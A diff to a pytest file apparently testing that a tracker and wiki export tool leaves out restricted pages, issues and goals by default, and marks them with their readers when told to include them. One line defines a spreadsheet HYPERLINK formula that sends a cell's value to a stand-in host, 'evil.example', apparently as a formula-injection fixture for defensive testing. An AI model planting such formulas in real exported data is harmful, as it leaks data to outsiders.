@@ -23,6 +23,7 @@ from haul.state.store import StagingStore
 
 SHARED_WITH = "eve"  # the one person the restricted issue is shared with
 SHARED = "DEV-3"  # the issue with an access list (it has comments and a changelog)
+TEAM_ONLY_GOAL = "Ship a stable platform"  # the sandbox's goal only security reads
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
 
 
@@ -51,6 +52,7 @@ def staged(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Staged]:
             mapping_extra={},
             endpoint_extra={"read_rps": 2000},
             services=("tracker", "wiki"),
+            scope_extra={"entities": "all"},
         )
         config = write_sandbox_config(directory, info, options)
         env = haul_env({TOKEN_ENV: info["tokens"]["admin"]})
@@ -88,8 +90,8 @@ def restricted_facts(store_path: Path) -> dict[str, object]:
 
 def test_restricted_content_is_left_out_by_default_and_counted(staged: Staged) -> None:
     """With no `[export] restricted`, the pages not open to all staff (custom, or inheriting
-    from one), their comments and grids, and the issue with an access list and its comments
-    are in no file and not in the DuckDB database; every table that can hold them has the
+    from one), their comments and grids, the issue with an access list and what belongs to it,
+    and the team-only goal and project are in no file and not in the DuckDB database; every table that can hold them has the
     `restricted` column (all false); the manifest counts what was left out per table and the
     summary says so."""
     facts = restricted_facts(staged.store_path)
@@ -111,8 +113,11 @@ def test_restricted_content_is_left_out_by_default_and_counted(staged: Staged) -
     assert SHARED not in set(issues["key"]) and "DEV-2" in set(issues["key"])
     issue_comments = pd.read_csv(folder / "comments.csv", dtype=str, keep_default_na=False)
     assert SHARED not in set(issue_comments["issue_key"])
-    intervals = pd.read_csv(folder / "status_intervals.csv", dtype=str, keep_default_na=False)
-    assert SHARED not in set(intervals["issue_key"])
+    for name in ("status_intervals", "issue_custom_fields", "worklogs"):
+        rows = pd.read_csv(folder / f"{name}.csv", dtype=str, keep_default_na=False)
+        assert SHARED not in set(rows["issue_key"]), name
+    goals = pd.read_csv(folder / "goals.csv", dtype=str, keep_default_na=False)
+    assert TEAM_ONLY_GOAL not in set(goals["summary"]) and set(goals["restricted"]) == {"false"}
     with duckdb.connect(str(folder / "haul.duckdb"), read_only=True) as db:
         slugs = {row[0] for row in db.execute("SELECT slug FROM wiki_pages").fetchall()}
         keys = {row[0] for row in db.execute("SELECT key FROM issues").fetchall()}
@@ -128,7 +133,9 @@ def test_restricted_content_is_left_out_by_default_and_counted(staged: Staged) -
     assert restricted["mode"] == "exclude"
     assert restricted["left_out"]["wiki_pages"] == len(pages)  # type: ignore[arg-type]
     assert restricted["left_out"]["wiki_comments"] == facts["comments"]
-    assert restricted["left_out"]["issues"] == 1
+    assert restricted["left_out"]["issues"] == restricted["left_out"]["issue_custom_fields"] == 1
+    assert restricted["left_out"]["flow_weekly"] == 1  # the issue, left out of its figures
+    assert restricted["left_out"]["goals"] == restricted["left_out"]["projects"] == 1
     assert restricted["left_out"]["comments"] == facts["issue_comments"]
     assert restricted["tables_left_out"]["wiki_grid"] == {
         "tables": facts["grids"],
@@ -142,7 +149,8 @@ def test_restricted_content_is_left_out_by_default_and_counted(staged: Staged) -
 
 def test_include_writes_restricted_content_marked_with_its_holders(staged: Staged) -> None:
     """`[export] restricted = "include"` writes it all, each restricted row marked true with
-    who may read it at the source: a page's groups and people, the issue's access list."""
+    who may read it at the source: a page's groups and people, the issue's access list, a
+    team-only goal's readers (its group, and the people its roles name: author, lead)."""
     config = with_export(staged, "include", 'restricted = "include"')
     out = staged.directory / "include"
 
@@ -158,6 +166,11 @@ def test_include_writes_restricted_content_marked_with_its_holders(staged: Stage
     issues = pd.read_parquet(folder / "issues.parquet").set_index("key")
     assert bool(issues.loc[SHARED, "restricted"])
     assert json.loads(issues.loc[SHARED, "access_holders"]) == [f"user {SHARED_WITH}"]
+    goals = pd.read_parquet(folder / "goals.parquet").set_index("summary")
+    goal = goals.loc[TEAM_ONLY_GOAL]
+    readers = json.loads(goal["access_holders"])
+    assert bool(goal["restricted"]) and {"user eve", "user trent"} <= set(readers)
+    assert any(holder.startswith("group ") for holder in readers)  # the security group
     comments = pd.read_parquet(folder / "comments.parquet")
     assert comments[comments["issue_key"] == SHARED]["restricted"].all()
     manifest = json.loads((folder / "manifest.json").read_text())
